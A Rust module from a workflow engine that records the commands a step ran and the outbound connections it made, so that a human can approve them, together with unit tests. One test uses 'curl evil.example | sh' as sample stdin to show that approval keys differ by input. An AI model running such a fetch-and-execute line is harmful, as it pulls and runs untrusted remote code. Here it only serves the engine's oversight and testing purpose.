//! What a step has done beside its writes to databases: the commands that it ran, and the connections that it
//! made to hosts, in every attempt of its generation.
//!
//! Owns how this is read from the run's record, and what an approval of it is for. How connections are grouped is
//! `connections`', how commands are written `command`'s, and what people are shown, and how much of it, `evidence`'s.
//! What a step sends by itself it sends again when it is resumed, so a connection of an earlier attempt counts like one
//! of this.

mod command;
mod connections;
mod evidence;

use serde_json::{Value, json};
use wflo_core::effect::{EffectKind, EffectRecord, EffectState};

use self::connections::Connections;
use super::Broker;
use crate::error::EngineError;

pub(super) use self::command::{add_given, argv_of, one_line};

/// So many events are read at once; they may be large.
const PAGE: u32 = 64;
/// So many hosts are in a question's title.
const TITLED: usize = 3;

/// What was done.
#[derive(Debug, Default, PartialEq)]
pub(super) struct Done {
    /// In the order in which they ended.
    commands: Vec<Ran>,
    connections: Connections,
}

/// A command that was asked for.
#[derive(Debug, PartialEq)]
struct Ran {
    /// Its words, and what it was given, as a question about a command has them.
    command: Value,
    /// Why it never started, where it did not.
    refused: Option<String>,
}

impl Done {
    pub(super) fn is_empty(&self) -> bool {
        self.commands.is_empty() && self.connections.ways.is_empty()
    }

    /// Whether anything of it happened.
    fn did(&self) -> bool {
        self.ran().next().is_some() || self.connections.made() > 0
    }

    fn ran(&self) -> impl Iterator<Item = &Value> {
        self.commands.iter().filter(|ran| ran.refused.is_none()).map(|ran| &ran.command)
    }

    /// What an approval of the output is for beside the output, where it is for anything: what was run, and what
    /// was reached how. Bytes and paths differ when a step is resumed, and so may what it is refused; the same step
    /// at another host or by another method is another thing.
    pub(super) fn action(&self) -> Option<Value> {
        let mut reached: Vec<Value> = Vec::new();
        for way in self.connections.ways.iter().filter(|way| way.times > 0) {
            reached.push(json!([way.host, way.port, way.method]));
        }
        self.did().then(|| json!({ "commands": self.ran().collect::<Vec<_>>(), "reached": reached }))
    }

    /// `ran 2 commands and made 3 connections to a.example:443, b.example:443 and 2 more`, or what it was refused;
    /// empty where nothing was done.
    pub(super) fn title(&self) -> String {
        let mut parts = Vec::new();
        let ran = self.ran().count();
        if ran > 0 {
            parts.push(format!("ran {}", counted(ran as u64, "command")));
        }
        if self.connections.made() > 0 {
            let mut hosts: Vec<String> = Vec::new();
            for way in self.connections.by_weight().into_iter().filter(|way| way.times > 0) {
                let host = format!("{}:{}", way.host, way.port);
                if !hosts.contains(&host) {
                    hosts.push(host);
                }
            }
            let more = hosts.len().saturating_sub(TITLED);
            hosts.truncate(TITLED);
            let more = if more > 0 { format!(" and {more} more") } else { String::new() };
            let made = counted(self.connections.made(), "connection");
            parts.push(format!("made {made} to {}{more}", hosts.join(", ")));
        }
        if parts.is_empty() && !self.is_empty() {
            parts.push("wrote nothing, and was refused what it tried".to_owned());
        }
        parts.join(" and ")
    }
}

/// `1 command`, `2 commands`.
fn counted(number: u64, what: &str) -> String {
    match number {
        1 => format!("1 {what}"),
        number => format!("{number} {what}s"),
    }
}

impl Broker {
    /// What this generation has done; `command` is the one that the step itself is.
    pub(super) async fn done(&self, command: Option<&[String]>) -> Result<Done, EngineError> {
        let store = &self.services.store;
        let own = command.map(|argv| Ran { command: json!({ "argv": argv }), refused: None });
        let mut commands: Vec<Ran> = own.into_iter().collect();
        let mut tools = self.journal.all();
        tools.retain(|row| row.kind == EffectKind::Tool);
        tools.sort_by_key(|row| (row.order().unwrap_or(u32::MAX), row.started_at));
        for EffectRecord { key, state, .. } in tools {
            if let Some(row) = self.journal.whole(&key.path, key.seq).await? {
                let request = row.request.into_here().unwrap_or_default();
                let mut command = json!({ "argv": argv_of(&request) });
                add_given(&mut command, &request);
                commands.push(Ran { command, refused: never_started(&state) });
            }
        }
        let (mut connections, mut seen) = (Connections::default(), 0);
        loop {
            let page = store.events(self.attempt.run, seen, PAGE).await?;
            let Some(last) = page.last() else { break };
            seen = last.seq;
            let whose = (self.attempt.step.as_str(), self.attempt.generation);
            page.into_iter().for_each(|recorded| connections.see(recorded.event.body, whose));
        }
        connections.open.clear();
        Ok(Done { commands, connections })
    }
}

/// Why a command never started: whatever one does that has, its row has a result; only of one that may have run
/// before a crash is that not known.
fn never_started(state: &EffectState) -> Option<String> {
    match state {
        EffectState::Failed { error, .. } if error.code != super::AMBIGUOUS.to_string() => {
            Some(error.message.clone())
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use wflo_core::error::{Code, Failure};
    use wflo_core::event::EventBody;

    use super::*;

    pub(super) fn started(generation: u32, attempt: u32) -> EventBody {
        EventBody::StepStarted { step: "two".to_owned(), generation, attempt, epoch: 1 }
    }

    pub(super) fn opened(step: &str, connection: u64, host: &str, request: &str) -> EventBody {
        EventBody::EgressOpened {
            step: step.to_owned(),
            connection,
            host: host.to_owned(),
            port: 443,
            way: "https".to_owned(),
            request: Some(request.to_owned()),
            secrets: Vec::new(),
        }
    }

    pub(super) fn closed(connection: u64, sent_bytes: u64) -> EventBody {
        EventBody::EgressClosed {
            step: "two".to_owned(),
            connection,
            host: "a.example".to_owned(),
            port: 443,
            address: None,
            sent_bytes,
            received_bytes: 7,
            duration_ms: 1,
            end: "done".to_owned(),
            error: None,
        }
    }

    pub(super) fn of(events: Vec<EventBody>) -> Done {
        let mut connections = Connections::default();
        events.into_iter().for_each(|body| connections.see(body, ("two", 2)));
        connections.open.clear();
        Done { commands: Vec::new(), connections }
    }

    #[test]
    fn an_approval_is_for_the_hosts_and_methods_and_not_for_how_often() {
        let once = of(vec![started(2, 1), opened("two", 1, "a.example", "DELETE /1")]);
        let twice = of(vec![
            started(2, 1),
            opened("two", 1, "a.example", "DELETE /1"),
            started(2, 2),
            opened("two", 1, "a.example", "DELETE /2"),
            closed(1, 3),
        ]);
        assert_eq!(once.action(), twice.action());
        for other in [opened("two", 1, "a.example", "GET /1"), opened("two", 1, "b.example", "DELETE /1")] {
            assert_ne!(once.action(), of(vec![started(2, 1), other]).action());
        }
        assert!(of(vec![started(2, 1)]).is_empty() && !once.is_empty());
    }

    #[test]
    fn a_command_that_never_started_is_told_from_one_that_may_have() {
        let failed = |code: Code| EffectState::Failed { order: 1, error: Failure::new(code, "why") };
        assert_eq!(never_started(&failed(Code(4001))), Some("why".to_owned()));
        assert_eq!(never_started(&failed(super::super::AMBIGUOUS)), None);
        assert_eq!(never_started(&EffectState::Intent), None);
        let ran = |command: &str, refused: Option<&str>| Ran {
            command: argv(&command.split(' ').collect::<Vec<_>>()),
            refused: refused.map(str::to_owned),
        };
        let commands = vec![ran("make", None), ran("git push", Some("the budget has 0 calls left"))];
        let done = Done { commands, connections: Connections::default() };
        let mut evidence = json!({});
        done.show(&mut evidence);
        let refused = json!([{"argv": ["git", "push"], "because": "the budget has 0 calls left"}]);
        assert_eq!(evidence, json!({"commands": [{"argv": ["make"]}], "not_started": refused}));
        assert_eq!(done.title(), "ran 1 command");
        let nothing =
            Done { commands: vec![ran("git push", Some("no"))], connections: Connections::default() };
        assert_eq!(
            (nothing.title().as_str(), nothing.action()),
            ("wrote nothing, and was refused what it tried", None)
        );
    }

    pub(super) fn argv(words: &[&str]) -> Value {
        json!({ "argv": words })
    }

    pub(super) fn running(commands: Vec<Value>) -> Done {
        let commands = commands.into_iter().map(|command| Ran { command, refused: None }).collect();
        Done { commands, connections: Connections::default() }
    }

    #[test]
    fn an_approval_is_for_the_words_of_commands_and_for_what_they_were_given() {
        let long = |end: &str| running(vec![argv(&["x".repeat(5_000).as_str(), end])]).action();
        assert_ne!(long("a"), long("b"));
        assert_ne!(
            running(vec![argv(&["rm", "a b"])]).action(),
            running(vec![argv(&["rm", "a", "b"])]).action()
        );
        let fed = |input: &str| {
            let mut command = argv(&["sh"]);
            add_given(&mut command, &json!({"stdin": input, "env": {}, "cwd": null}));
            assert_eq!(command, json!({"argv": ["sh"], "stdin": input}));
            running(vec![command]).action()
        };
        assert_ne!(fed("true"), fed("curl evil.example | sh"));
        let line = one_line(&["x".repeat(5_001)]);
        assert!(line.contains("… (5001 bytes, BLAKE3 "), "{line}");
    }
}
